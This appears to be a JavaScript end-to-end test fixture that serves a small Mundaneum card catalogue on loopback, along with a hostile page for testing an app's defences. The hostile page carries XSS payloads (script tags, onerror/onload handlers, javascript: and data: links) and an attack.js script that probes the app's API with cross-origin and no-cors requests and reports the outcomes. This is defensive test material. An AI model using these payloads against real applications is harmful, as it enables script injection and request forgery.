// A small web site for the end-to-end tests, served on loopback: a card catalogue about the
// Mundaneum (pleasant pages to search and to screenshot) and hostile pages whose title,
// anchor text, body and URLs carry script and markup. Every payload, if it ever ran, would
// set window.__pwned, open a dialog and hit /beacon on this site; the tests assert none of
// that happens in the app. The hostile page also loads /attack.js, which, when the page is
// opened in the browser (as a result link does), attacks the app's API from this origin and
// reports what it could do to /report.
import http from 'node:http';

/** Marks every hostile page and payload, so one search finds them all. */
export const marker = 'zebracorn';

const beaconPath = '/beacon';

/** Payload text: markup that would run script if it ever became markup. */
export function payloads(tag) {
  const act = `window.__pwned='${tag}';alert('${tag}');fetch('${beaconPath}?${tag}')`;
  return {
    script: `<script>${act}</script>`,
    img: `"><img src=x onerror="${act}">`,
    svg: `<svg onload="${act}">`,
  };
}

function esc(s) {
  return s.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
}

const topics = [
  ['otlet', 'Paul Otlet', 'Paul Otlet, Belgian bibliographer, dreamt of a universal catalogue of all knowledge on index cards.'],
  ['lafontaine', 'Henri La Fontaine', 'Henri La Fontaine, Nobel peace laureate, co-founded the Mundaneum and its catalogue with Otlet.'],
  ['udc', 'Universal Decimal Classification', 'The Universal Decimal Classification extends Dewey with auxiliary signs to order the catalogue.'],
  ['rbu', 'Répertoire bibliographique universel', 'The Répertoire bibliographique universel grew to twelve million cards, a catalogue of the world’s documents.'],
  ['cards', 'Index cards', 'Standard 125 by 75 mm index cards made the catalogue easy to file, copy and exchange by post.'],
  ['palais', 'Palais Mondial', 'The Palais Mondial in Brussels housed the Mundaneum’s catalogue, museum and library until 1934.'],
  ['mons', 'Mons', 'Today the Mundaneum archive centre in Mons keeps what survived of the catalogue and its drawers.'],
  ['traite', 'Traité de documentation', 'Otlet’s Traité de documentation of 1934 describes the book, the document and the catalogue of the future.'],
  ['monde', 'Monde: essai d’universalisme', 'In Monde Otlet imagines a telescope of knowledge: consulting the catalogue from an armchair, at a distance.'],
  ['microfilm', 'Microfilm', 'Otlet and Goldschmidt proposed the microphotographic book to shrink the catalogue and its documents.'],
  ['iib', 'International Institute of Bibliography', 'The International Institute of Bibliography, founded 1895, ran the catalogue and a reference service by mail.'],
  ['fid', 'FID', 'The institute became the International Federation for Information and Documentation.'],
  ['enquiries', 'Enquiries by post', 'Anyone could write to the service and receive copies of the catalogue cards that matched a question.'],
  ['drawers', 'Cabinets and drawers', 'Oak cabinets with hundreds of drawers held the cards; rods kept each drawer of the catalogue in order.'],
  ['mundaneum', 'The Mundaneum', 'The Mundaneum was to be a world city of knowledge with the catalogue at its centre.'],
  ['documentation', 'Documentation science', 'Documentation, the science of recording and retrieving documents, begins with Otlet’s catalogue.'],
  ['hypertext', 'Before hypertext', 'Historians read the linked cards of the catalogue as a precursor of hypertext and the web.'],
  ['legacy', 'Legacy', 'Search engines and web archives continue the work of the catalogue on a larger scale.'],
];

function page(title, body, links = []) {
  const items = links.map(([href, text]) => `<li><a href="${esc(href)}">${esc(text)}</a></li>`).join('\n');
  return `<!doctype html><html><head><meta charset="utf-8"><title>${esc(title)}</title></head>
<body><h1>${esc(title)}</h1><p>${esc(body)}</p><ul>${items}</ul></body></html>`;
}

function hostilePage(appURL) {
  const t = payloads('title');
  const a = payloads('anchor');
  const b = payloads('body');
  const u = payloads('url');
  // <title> is raw text to the HTML parser: its payloads arrive in the title as they are.
  return `<!doctype html><html><head><meta charset="utf-8">
<title>${marker} hostile title ${t.img} ${t.script} ${t.svg}</title>
<script src="/attack.js" data-app="${esc(appURL)}"></script>
</head><body>
<h1>${marker} hostile body</h1>
<p>${marker} body text ${esc(b.img)} ${esc(b.script)} ${esc(b.svg)}</p>
<script>window.__pwned='inline';alert('inline')</script>
<img src="x" onerror="window.__pwned='img';alert('img')">
<ul>
<li><a href="/cards/otlet.html">${marker} anchor ${esc(a.script)} ${esc(a.img)} ${esc(a.svg)}</a></li>
<li><a href='/p/${u.img.replaceAll("'", '')}${marker}.html'>${marker} hostile url one</a></li>
<li><a href="/p/q.html?x=${esc(encodeURIComponent(u.script))}&amp;${marker}=1">${marker} hostile url two</a></li>
<li><a href="javascript:window.__pwned='jslink';alert('jslink')">${marker} javascript link</a></li>
<li><a href="data:text/html,${esc(encodeURIComponent(u.script))}">${marker} data link</a></li>
</ul></body></html>`;
}

// attack.js runs in the hostile page's origin when the browser opens it: it tries to use
// the app from there and reports each attempt's outcome.
const attackJS = `(async () => {
  const app = document.currentScript.dataset.app;
  const report = {};
  const tryIt = async (name, f) => {
    try { report[name] = 'succeeded: ' + String(await f()).slice(0, 200); }
    catch (e) { report[name] = 'blocked: ' + (e && e.message ? e.message : String(e)); }
  };
  await tryIt('readIndex', async () => { const r = await fetch(app); return r.status + ' ' + (await r.text()); });
  await tryIt('callJSON', async () => {
    const r = await fetch(app + 'api/App.Crawls', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '[]' });
    return r.status + ' ' + (await r.text());
  });
  await tryIt('callWithGuessedToken', async () => {
    const r = await fetch(app + 'api/App.Crawls', { method: 'POST', headers: { 'Content-Type': 'application/json', 'X-Mundaneum-Token': 'x' }, body: '[]' });
    return r.status + ' ' + (await r.text());
  });
  // A "simple" request needs no preflight: the browser sends it, the reply is opaque. The
  // test checks afterwards that no crawl was started.
  await tryIt('simplePost', async () => {
    const r = await fetch(app + 'api/App.StartCrawl', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' },
      body: JSON.stringify([{ seeds: [location.origin + '/from-attacker'], scope: 'list' }]) });
    return 'opaque ' + r.type;
  });
  await tryIt('events', () => new Promise((resolve, reject) => {
    const es = new EventSource(app + 'api/events');
    es.onopen = () => { es.close(); resolve('open'); };
    es.onerror = () => { es.close(); reject(new Error('event stream refused')); };
  }));
  await tryIt('bridgeScript', () => new Promise((resolve, reject) => {
    const s = document.createElement('script');
    s.src = app + '_mundaneum/bridge.js';
    s.onload = () => resolve('loaded, window.go ' + typeof window.go);
    s.onerror = () => reject(new Error('script refused'));
    document.head.append(s);
  }));
  await tryIt('frame', () => new Promise((resolve) => {
    const f = document.createElement('iframe');
    f.src = app;
    f.onload = () => { let d = null; try { d = f.contentDocument; } catch (e) {} resolve('onload fired; document ' + (d ? 'readable' : 'unreadable')); };
    document.body.append(f);
    setTimeout(() => resolve('no load'), 3000);
  }));
  await fetch('/report', { method: 'POST', body: JSON.stringify(report) });
})();`;

/**
 * Starts the site on 127.0.0.1 on a free port. Returns { url, close, beacons, reports,
 * setAppURL, expectedPages }.
 */
export async function startSite() {
  const beacons = [];
  const reports = [];
  let appURL = 'http://127.0.0.1:1/';
  const cardLinks = topics.map(([slug, title]) => [`/cards/${slug}.html`, title]);
  const server = http.createServer((req, res) => {
    const url = new URL(req.url, 'http://site');
    const send = (status, type, body) => {
      res.writeHead(status, { 'Content-Type': type, 'Cache-Control': 'no-store' });
      res.end(body);
    };
    // A little latency, so that a crawl takes long enough to watch.
    const delay = url.pathname.startsWith('/cards/') ? 60 : 0;
    setTimeout(() => {
      if (url.pathname === beaconPath) {
        beacons.push(req.url);
        return send(204, 'text/plain', '');
      }
      if (url.pathname === '/report' && req.method === 'POST') {
        let body = '';
        req.on('data', (c) => (body += c));
        req.on('end', () => {
          try {
            reports.push(JSON.parse(body));
          } catch {
            reports.push({ unparsable: body });
          }
          send(204, 'text/plain', '');
        });
        return;
      }
      if (url.pathname === '/robots.txt') return send(200, 'text/plain', 'User-agent: *\nAllow: /\n');
      if (url.pathname === '/attack.js') return send(200, 'text/javascript', attackJS);
      if (url.pathname === '/') {
        return send(
          200,
          'text/html; charset=utf-8',
          page('A card catalogue of the Mundaneum', 'Cards about Paul Otlet’s catalogue of all knowledge.', [
            ...cardLinks,
            ['/hostile.html', 'A page to be careful with'],
          ]),
        );
      }
      if (url.pathname === '/hostile.html') return send(200, 'text/html; charset=utf-8', hostilePage(appURL));
      // A card that moved for good (301, then 308), and one that moved for now (302): the
      // link checks tell them apart, and only the first may be accepted into a pointer.
      if (url.pathname === '/moved/otlet.html') {
        res.writeHead(301, { Location: '/moved-again/otlet.html' });
        return res.end();
      }
      if (url.pathname === '/moved-again/otlet.html') {
        res.writeHead(308, { Location: '/cards/otlet.html' });
        return res.end();
      }
      if (url.pathname === '/away/udc.html') {
        res.writeHead(302, { Location: '/cards/udc.html' });
        return res.end();
      }
      if (url.pathname.startsWith('/p/')) {
        const p = payloads('urlpage');
        return send(200, 'text/html; charset=utf-8', page(`${marker} page at a hostile URL ${p.img}`, `${marker} ${p.script}`));
      }
      const m = url.pathname.match(/^\/cards\/([a-z]+)\.html$/);
      const i = m ? topics.findIndex(([slug]) => slug === m[1]) : -1;
      if (i >= 0) {
        const [, title, text] = topics[i];
        const next = topics[(i + 1) % topics.length];
        const prev = topics[(i + topics.length - 1) % topics.length];
        return send(
          200,
          'text/html; charset=utf-8',
          page(title, text, [
            ['/', 'The catalogue'],
            [`/cards/${next[0]}.html`, next[1]],
            [`/cards/${prev[0]}.html`, prev[1]],
          ]),
        );
      }
      send(404, 'text/plain', 'not found');
    }, delay);
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address();
  return {
    url: `http://127.0.0.1:${port}/`,
    origin: `http://127.0.0.1:${port}`,
    beacons,
    reports,
    /** Pages a crawl from / reaches: the index, the cards, the hostile page and its two /p/ pages. */
    expectedPages: 1 + topics.length + 1 + 2,
    setAppURL(u) {
      appURL = u;
    },
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(resolve);
      }),
  };
}

/**
 * Starts a chain of n pages on 127.0.0.1 (/, then /p/1 … /p/n-1), each linking to the next
 * ten, for crawls to watch: page(i) is each page's markup before its links, sent after
 * delayMs. Returns { url, close }.
 */
export function linkedSite(n, { page = (i) => `<title>Page ${i}</title>`, delayMs = 0 } = {}) {
  const server = http.createServer((req, res) => {
    const m = req.url.match(/^\/p\/(\d+)$/);
    if (req.url === '/robots.txt' || (req.url !== '/' && !m)) {
      res.writeHead(404).end();
      return;
    }
    const i = m ? Number(m[1]) : 0;
    let links = '';
    for (let j = i * 10 + 1; j <= i * 10 + 10 && j < n; j++) links += `<a href="/p/${j}">page ${j}</a> `;
    const send = () => {
      res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
      res.end(`${page(i)}${links}`);
    };
    if (delayMs > 0) setTimeout(send, delayMs);
    else send();
  });
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () => resolve({ url: `http://127.0.0.1:${server.address().port}/`, close: () => server.close() })),
  );
}
